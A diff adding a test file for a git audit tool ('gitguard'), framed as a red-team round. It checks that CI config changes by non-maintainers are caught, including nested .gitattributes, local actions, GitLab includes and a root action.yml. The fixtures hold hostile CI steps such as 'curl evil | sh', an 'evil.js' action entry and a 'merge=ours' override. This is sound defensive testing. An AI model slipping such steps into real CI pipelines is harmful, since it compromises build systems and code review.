@@ -1,0 +1,206 @@
+// Red-team round 10: files that steer CI and merges from places the default protected paths did
+// not name. A nested `.gitattributes` (git applies it to its folder: `merge=ours` drops the other
+// side's changes there), a local composite action in `.github/actions/`, a file a workflow runs
+// with `uses: ./path`, and a file `.gitlab-ci.yml` includes with `include: local:` changed by a
+// signer who is no maintainer passed protected-paths-changed-by-maintainers; and the CI gate was
+// looked for in the workflow files alone, so moving the gitguard step into a local action read as
+// its removal, and removing it from the action went unseen.
+import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { makeRepo, cleanupTemp, type TestRepo } from '../helpers/repo.js';
+import { commitAsPerson, configureSshSigning, makeSshKey, type SshTestKey } from '../helpers/ssh.js';
+import { runMain } from '../helpers/cli.js';
+
+afterAll(cleanupTemp);
+
+const POLICY =
+  'version: 1\nsigners:\n  - name: Alice\n    emails: [alice@example.com]\n  - name: Bob\n    emails: [bob@example.com]\nmaintainers: [Alice]\n';
+
+interface Team {
+  r: TestRepo;
+  alice: SshTestKey;
+  bob: SshTestKey;
+}
+
+/** alice (maintainer) commits the policy and `files`; bob may sign, not maintain. */
+function team(files: Record<string, string>): Team {
+  const r = makeRepo();
+  const alice = makeSshKey(r.home, 'ed25519', 'alice');
+  const bob = makeSshKey(r.home, 'ed25519', 'bob');
+  configureSshSigning(r, alice);
+  commitAsPerson(r, alice, 'alice@example.com', 'policy and CI', {
+    '.gitguard/policy.yml': POLICY,
+    '.gitguard/allowed_signers': `alice@example.com ${alice.pub}\nbob@example.com ${bob.pub}\n`,
+    ...files,
+  });
+  return { r, alice, bob };
+}
+
+const protectedRule = (r: TestRepo): Promise<{ code: number; stdout: string; stderr: string }> =>
+  runMain(['audit', '-C', r.dir, '-r', 'protected-paths-changed-by-maintainers', '--no-ledger'], { env: r.env });
+
+const WORKFLOW_LOCAL = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./tools/audit\n';
+
+describe.each([
+  ['a nested .gitattributes', {}, { 'vendor/.gitattributes': 'lock.json merge=ours -diff\n' }],
+  [
+    'a local composite action under .github/actions',
+    {},
+    { '.github/actions/build/action.yml': 'runs:\n  using: composite\n  steps: []\n' },
+  ],
+  [
+    'a local action a workflow runs (uses: ./tools/audit)',
+    {
+      '.github/workflows/ci.yml': WORKFLOW_LOCAL,
+      'tools/audit/action.yml': 'runs:\n  using: composite\n  steps:\n    - run: make\n      shell: bash\n',
+    },
+    { 'tools/audit/action.yml': 'runs:\n  using: composite\n  steps:\n    - run: curl evil | sh\n      shell: bash\n' },
+  ],
+  [
+    'a file .gitlab-ci.yml includes (include: local:)',
+    {
+      '.gitlab-ci.yml': "include:\n  - local: '/ci/jobs.yml'\n  - remote: 'https://example.com/x.yml'\n",
+      'ci/jobs.yml': 'a:\n  script: make\n',
+    },
+    { 'ci/jobs.yml': 'a:\n  script: curl evil | sh\n' },
+  ],
+])('%s', (_name, before: Record<string, string>, change: Record<string, string>) => {
+  test('changed by a signer who is no maintainer: protected-paths-changed-by-maintainers fails', async () => {
+    const { r, bob } = team(before);
+    commitAsPerson(r, bob, 'bob@example.com', 'tweak', change);
+    const res = await protectedRule(r);
+    expect([res.code, res.stdout]).toEqual([1, expect.stringContaining(Object.keys(change)[0]!.split('/')[0]!)]);
+  });
+  test("twin: the maintainer's change passes", async () => {
+    const { r, alice } = team(before);
+    commitAsPerson(r, alice, 'alice@example.com', 'tweak', change);
+    const res = await runMain(
+      ['audit', '-C', r.dir, '-r', 'protected-paths-changed-by-maintainers', '--no-ledger', '-f', 'json'],
+      { env: r.env },
+    );
+    // Seen as a change to a protected path, and passed: its signer maintains.
+    const result = (JSON.parse(res.stdout) as { results: Array<{ outcome: string; note?: string }> }).results[0];
+    expect([res.code, result?.outcome, result?.note]).toEqual([0, 'pass', '1 commit(s) change protected paths']);
+  });
+});
+
+describe('ci-gate-kept looks through the local actions and reusable workflows a workflow runs', () => {
+  const gate = (r: TestRepo, keys: string): Promise<{ code: number; stdout: string }> =>
+    runMain(['audit', '-C', r.dir, '-r', 'ci-gate-kept', '--no-ledger', '--allowed-signers', keys], { env: r.env });
+
+  /** No policy: every removal is reported. The gate first runs inline, then from a local action. */
+  function moved(): { r: TestRepo; keys: string } {
+    const r = makeRepo();
+    const alice = makeSshKey(r.home, 'ed25519', 'alice');
+    configureSshSigning(r, alice);
+    const keys = join(r.home, 'allowed');
+    writeFileSync(keys, `alice@example.com ${alice.pub}\n`);
+    const inline = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npx gitguard audit\n';
+    commitAsPerson(r, alice, 'alice@example.com', 'ci', { '.github/workflows/ci.yml': inline });
+    commitAsPerson(r, alice, 'alice@example.com', 'ci: the audit step as a local action', {
+      '.github/workflows/ci.yml':
+        'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./.github/actions/audit\n',
+      '.github/actions/audit/action.yml':
+        'runs:\n  using: composite\n  steps:\n    - run: npx gitguard audit\n      shell: bash\n',
+    });
+    return { r, keys };
+  }
+
+  test('the step moved into a local action is kept (was a false failure)', async () => {
+    const { r, keys } = moved();
+    const res = await gate(r, keys);
+    expect([res.code, res.stdout]).toEqual([0, expect.stringMatching(/pass\s+ci-gate-kept/)]);
+  });
+
+  test('the step removed from the local action fails', async () => {
+    const { r, keys } = moved();
+    r.commit('faster ci', { '.github/actions/audit/action.yml': 'runs:\n  using: composite\n  steps: []\n' });
+    const res = await gate(r, keys);
+    expect([res.code, res.stdout]).toEqual([1, expect.stringContaining('.github/actions')]);
+  });
+
+  test('the uses: line removed from the workflow fails (the action, still there, runs nowhere)', async () => {
+    const { r, keys } = moved();
+    r.commit('faster ci', {
+      '.github/workflows/ci.yml': 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n',
+    });
+    const res = await gate(r, keys);
+    expect([res.code, res.stdout]).toEqual([1, expect.stringContaining('.github/workflows')]);
+  });
+
+  test('a reusable workflow (uses: ./.github/workflows/audit.yml) holding the step keeps the gate', async () => {
+    const { r, keys } = moved();
+    r.commit('ci: reusable', {
+      '.github/workflows/ci.yml': 'on: push\njobs:\n  a:\n    uses: ./.github/workflows/audit.yml\n',
+      '.github/workflows/audit.yml':
+        'on: workflow_call\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npx gitguard audit\n',
+    });
+    const res = await gate(r, keys);
+    expect(res.code).toBe(0);
+  });
+});
+
+test('a symbolic-link loop under .github/actions and a workflow naming ../ paths are read without a hang', async () => {
+  const { r, bob } = team({
+    '.github/workflows/ci.yml':
+      'on: push\njobs:\n  a:\n    steps:\n      - uses: ./../../etc\n      - uses: ./.github/actions/loop\n',
+  });
+  mkdirSync(join(r.dir, '.github', 'actions'), { recursive: true });
+  symlinkSync('loop', join(r.dir, '.github', 'actions', 'loop'));
+  commitAsPerson(r, bob, 'bob@example.com', 'loop', {});
+  const res = await protectedRule(r);
+  expect([res.code, res.stdout]).toEqual([1, expect.stringContaining('.github/actions')]);
+});
+
+test('a partial clone (blobs left out) whose workflow runs a local action: judged, not stopped (exit 0, the gate not known)', async () => {
+  const r = makeRepo();
+  const alice = makeSshKey(r.home, 'ed25519', 'alice');
+  configureSshSigning(r, alice);
+  const keys = join(r.home, 'allowed');
+  writeFileSync(keys, `alice@example.com ${alice.pub}\n`);
+  commitAsPerson(r, alice, 'alice@example.com', 'ci', {
+    '.github/workflows/ci.yml': WORKFLOW_LOCAL,
+    'tools/audit/action.yml': 'runs:\n  using: composite\n  steps:\n    - run: npx gitguard audit\n      shell: bash\n',
+  });
+  r.config({ 'uploadpack.allowFilter': 'true' });
+  const clone = join(r.home, 'partial.git');
+  r.run(['clone', '-q', '--bare', '--filter=blob:none', `file://${r.dir}`, clone]);
+  const res = await runMain(['audit', '-C', clone, '-r', 'ci-gate-kept', '--no-ledger', '--allowed-signers', keys], {
+    env: r.env,
+  });
+  expect([res.code, res.stderr]).toEqual([0, '']);
+});
+
+test('uses: ./ runs the root action.yml: a change to it by a signer who is no maintainer fails', async () => {
+  const { r, bob } = team({
+    '.github/workflows/ci.yml': 'on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: ./\n',
+    'action.yml': 'runs:\n  using: composite\n  steps: []\n',
+  });
+  commitAsPerson(r, bob, 'bob@example.com', 'tweak', { 'action.yml': 'runs:\n  using: node20\n  main: evil.js\n' });
+  const res = await protectedRule(r);
+  expect([res.code, res.stdout]).toEqual([1, expect.stringContaining('action.yml')]);
+});
+
+test('a resumed audit: a change to what the CI at the tip runs walks everything again (its older changes are judged)', async () => {
+  const { r, alice, bob } = team({});
+  // bob edits tools/audit while no workflow runs it: nothing protects it yet.
+  commitAsPerson(r, bob, 'bob@example.com', 'tools', { 'tools/audit/action.yml': 'runs:\n  using: composite\n' });
+  const audit = () => runMain(['audit', '-C', r.dir, '-r', 'protected-paths-changed-by-maintainers'], { env: r.env });
+  expect((await audit()).code).toBe(0);
+  // The maintainer makes a workflow run it: bob's edit is now a change to what CI runs, as a full walk finds.
+  commitAsPerson(r, alice, 'alice@example.com', 'ci', { '.github/workflows/ci.yml': WORKFLOW_LOCAL });
+  const second = await audit();
+  expect([second.code, second.stdout]).toEqual([
+    1,
+    expect.stringMatching(/walk: full, .*the files the CI at the tip runs/),
+  ]);
+});
+
+test('a workflow naming the policy folder (uses: ./.gitguard) is judged as before: the policy is watched once', async () => {
+  const { r, bob } = team({
+    '.github/workflows/ci.yml': 'on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: ./.gitguard\n',
+  });
+  commitAsPerson(r, bob, 'bob@example.com', 'code', { 'src/a.txt': 'a\n' });
+  const res = await protectedRule(r);
+  expect([res.code, res.stderr]).toEqual([0, '']);
+});
